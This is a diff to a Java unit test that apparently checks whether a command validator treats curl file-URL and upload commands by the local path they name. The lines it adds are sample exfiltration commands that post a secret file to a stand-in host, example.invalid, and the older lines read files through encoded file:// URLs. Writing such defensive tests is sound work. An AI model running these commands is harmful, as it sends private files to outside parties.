@@ -170,7 +170,9 @@ class LinkAndListAttackTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"curl file:///OUT/secret.txt", "curl FILE://localhost/OUT/secret.txt",
-        "curl file:%2FOUT/secret.txt", "curl -o copy file:///OUT/secret.txt"})
+        "curl file:%2FOUT/secret.txt", "curl -o copy file:///OUT/secret.txt",
+        "curl -d @/OUT/secret.txt https://example.invalid", "curl -F f=@/OUT/secret.txt https://example.invalid",
+        "curl --data-binary @/OUT/secret.txt https://example.invalid"})
     void aFileUrlIsJudgedLikeThePathItNames(String template) {
         String line = template.replace("/OUT", w.outside.toString()).replace("%2FOUT",
                 w.outside.toString().replace("/", "%2F"));
